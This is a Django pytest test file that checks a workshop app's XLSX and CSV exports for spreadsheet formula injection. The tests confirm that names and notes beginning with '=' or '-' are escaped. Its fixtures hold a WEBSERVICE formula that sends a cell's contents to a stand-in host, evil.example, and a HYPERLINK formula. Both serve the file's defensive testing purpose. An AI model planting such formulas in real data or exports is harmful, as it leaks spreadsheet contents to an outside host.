"""Finding 1 of issue 12: a participant's name or note starting with ``=`` must not reach the facilitator's
spreadsheet as a formula, nor any CSV the site writes as a cell a spreadsheet evaluates."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from cases.csv_io import export_cases_csv, parse_cases_csv
from cases.models import Case
from framework.models import FrameworkVersion
from framework.services import sync_framework_versions
from tests.assessments.factories import make_locality, make_user
from workshops.models import Workshop

pytestmark = pytest.mark.django_db

PAYLOAD = '=WEBSERVICE("https://evil.example/?"&C3)'
NOTE = "-30% empleo"
EVALUATED = ("=", "+", "-", "@", "\t", "\r")


def evaluated(cell: str) -> bool:
    return bool(cell) and cell.startswith(EVALUATED)


@pytest.fixture
def workshop_with_payload(client, benchmark_cases, django_user_model):
    sync_framework_versions()
    consultant = make_user(django_user_model, "facilitator")
    client.force_login(consultant)
    locality = make_locality(consultant)
    client.post(
        reverse("workshops:create"),
        {"locality": locality.pk, "title": "Foro", "date": "2026-05-04", "dimensions": ["OPEN"]},
    )
    workshop = Workshop.objects.get()
    phone = Client()
    phone.post(reverse("workshops:join", args=[workshop.token]), {"name": PAYLOAD, "role": "other"})
    step = reverse("workshops:step", args=[workshop.token, "OPEN"])
    # Names are exported only when a workshop asks for them: the payload rides in an evidence note too.
    answers = {
        "OPEN.inclusiveness": "broad",
        "OPEN.inclusiveness__evidence": NOTE,
        "OPEN.outcome_evidence": "none",
        "OPEN.outcome_evidence__evidence": PAYLOAD,
        "goto": "review",
    }
    response = phone.post(step, answers)
    assert response.status_code == 302
    return workshop


def test_workshop_xlsx_has_no_formula_and_keeps_the_text(client, workshop_with_payload):
    content = client.get(reverse("workshops:export_xlsx", args=[workshop_with_payload.pk])).content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert PAYLOAD in texts and NOTE in texts


def test_workshop_csv_cells_are_neutralised(client, workshop_with_payload):
    content = client.get(reverse("workshops:export_csv", args=[workshop_with_payload.pk])).content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if evaluated(c)]
    assert "'" + PAYLOAD in cells and "'" + NOTE in cells


def test_public_cross_case_csv_is_neutralised(client, benchmark_cases):
    Case.objects.filter(slug="rafaela").update(name='=HYPERLINK("https://evil.example")')
    content = client.get(reverse("cases:compare_csv", args=["figure-2"])).content
    cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for c in row]
    assert not [c for c in cells if evaluated(c)]
    assert '\'=HYPERLINK("https://evil.example")' in cells


def test_case_csv_export_is_neutralised_and_reads_back(benchmark_cases):
    case = Case.objects.get(slug="rafaela")
    value = case.values.first()
    value.note = NOTE
    value.save()
    content = export_cases_csv(Case.objects.filter(slug="rafaela"))
    cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for c in row]
    # "-" alone is the "none of these" code, which no spreadsheet evaluates; everything else is escaped.
    assert not [c for c in cells if evaluated(c) and c != "-"]
    parsed = parse_cases_csv(content, FrameworkVersion.current().framework)
    assert parsed[0]["values"][value.indicator]["note"] == NOTE
